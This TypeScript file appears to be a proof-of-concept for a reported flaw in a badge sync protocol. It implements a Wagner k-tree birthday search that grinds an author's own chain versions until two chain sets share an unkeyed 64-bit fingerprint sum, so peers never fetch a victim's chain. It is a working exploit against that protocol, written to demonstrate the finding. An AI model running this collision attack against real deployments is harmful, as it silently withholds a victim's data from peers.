// The attack of #12 finding 6, for real: an author grinds versions of chains
// it owns until two different chain sets have equal unkeyed fingerprint
// sums, one holding a victim's chain and the other not. Protocol 2 summed
// each item's public 64-bit hash (assembly/sync/items.ts) with no key, so
// badges holding the two sets advertised, and said HELLO with, one
// fingerprint and one count: each believed the other in sync and neither
// ever fetched the victim's chain from the other.
//
// The search is Wagner's generalised birthday (k-tree, CRYPTO 2002) over
// K = 16 lists. The author owns K chains Z_i and signs M genesis blocks
// (versions) of each; one badge is to hold version a_i of Z_i, the other
// b_i. List i holds h(Z_i^a) - h(Z_i^b) for every ordered pair a != b, so
// M signatures give M(M - 1) entries; list 0 is shifted by h(T) - h(W),
// where T is the victim's chain (the first badge holds it) and W one more
// chain of the author's (the second badge holds it, so the counts agree).
// Entries summing to 0 mod 2^64, one from each list, are the collision.
// Merging pairs of lists level by level, each level keeping the sums whose
// low bits (12 more each level) are zero, finds dozens of solutions from
// 16 x 80 signatures in a few seconds; a direct birthday search on 64 bits
// would need 2^32 of them.

import { createHash } from 'node:crypto'
import { encode } from 'cborg'
import * as PF from 'picofeed'

const MASK = (1n << 64n) - 1n

/** One chain version: its block (picofeed, no PIC0 magic) and its item hash as the core makes it. */
export interface Version { block: Uint8Array, owner: Uint8Array, hash: bigint }

/** The core's item hash (items.ts): the first 8 bytes, little-endian, of SHA-512(owner | height u32 LE | head signature). */
export function itemHash (owner: Uint8Array, height: number, headSig: Uint8Array): bigint {
  const h = new Uint8Array(4)
  new DataView(h.buffer).setUint32(0, height, true)
  const d = createHash('sha512').update(owner).update(h).update(headSig).digest()
  return d.readBigUInt64LE(0)
}

/** A genesis card block by the key of `seed` (32 bytes), its name `name`. */
export function genesis (seed: Uint8Array, name: string, date: number): Version {
  const f = new PF.Feed()
  f.append(encode(['cards', { name }, date]), PF.toHex(seed))
  const b = f.last
  return { block: Uint8Array.from(f.buffer.subarray(4)), owner: Uint8Array.from(b.key), hash: itemHash(b.key, 1, b.sig) }
}

interface Node { v: bigint, left?: Node, right?: Node, list?: number, a?: number, b?: number }

/** Pairs of X and Y whose sums are 0 in their low `bits` bits. */
function merge (xs: Node[], ys: Node[], bits: bigint): Node[] {
  const mask = (1n << bits) - 1n
  const byLow = new Map<bigint, Node[]>()
  for (const y of ys) {
    const k = y.v & mask
    const l = byLow.get(k)
    if (l) l.push(y); else byLow.set(k, [y])
  }
  const out: Node[] = []
  for (const x of xs) {
    for (const y of byLow.get((-x.v) & mask) ?? []) out.push({ v: (x.v + y.v) & MASK, left: x, right: y })
  }
  return out
}

function leaves (n: Node, into: Node[] = []): Node[] {
  if (n.list !== undefined) into.push(n)
  else { leaves(n.left!, into); leaves(n.right!, into) }
  return into
}

/** Per list i, the versions (a_i, b_i) whose differences, with `shift` added to list 0's, sum to 0 mod 2^64; undefined when the search found none. */
export function kTree (hashes: bigint[][], shift: bigint): Array<[number, number]> | undefined {
  const K = hashes.length
  if (K !== 16) throw new Error('kTree: 16 lists')
  let lists: Node[][] = hashes.map((hs, i) => {
    const l: Node[] = []
    for (let a = 0; a < hs.length; a++) {
      for (let b = 0; b < hs.length; b++) {
        if (a !== b) l.push({ v: (hs[a] - hs[b] + (i === 0 ? shift : 0n)) & MASK, list: i, a, b })
      }
    }
    return l
  })
  for (const bits of [12n, 24n, 36n, 64n]) {
    const next: Node[][] = []
    for (let i = 0; i < lists.length; i += 2) next.push(merge(lists[i], lists[i + 1], bits))
    lists = next
  }
  const hit = lists[0].find(n => n.v === 0n)
  if (!hit) return undefined
  const pairs: Array<[number, number]> = []
  for (const leaf of leaves(hit)) pairs[leaf.list!] = [leaf.a!, leaf.b!]
  return pairs
}

/** The two sets of the attack: what each badge is given, besides chains both hold. */
export interface Collision { first: Version[], second: Version[] }

/**
 * Grinds the author's chains (seeds derived from `tag`) against the victim's chain `victim`:
 * `first` holds the victim's and one version of each of the author's 16 chains, `second` the
 * author's extra chain W and other versions; the unkeyed sums of the two sets are equal.
 */
export function grind (victim: Version, tag: number, versions = 80, date = 0): Collision {
  const seed = (chain: number) => new Uint8Array(32).map((_, j) => j === 0 ? tag : j === 1 ? chain : j + 3)
  const w = genesis(seed(200), 'w', date)
  const chains = Array.from({ length: 16 }, (_, i) => Array.from({ length: versions }, (_, v) => genesis(seed(i), `z${i}.${v}`, date)))
  const pairs = kTree(chains.map(vs => vs.map(x => x.hash)), (victim.hash - w.hash) & MASK)
  if (!pairs) throw new Error(`grind: no collision from ${versions} versions (tag ${tag}); try another tag`)
  return {
    first: [victim, ...pairs.map(([a], i) => chains[i][a])],
    second: [w, ...pairs.map(([, b], i) => chains[i][b])]
  }
}

/** The unkeyed sum of protocol 2 over some versions. */
export function unkeyedSum (vs: Version[]): bigint {
  return vs.reduce((s, x) => (s + x.hash) & MASK, 0n)
}
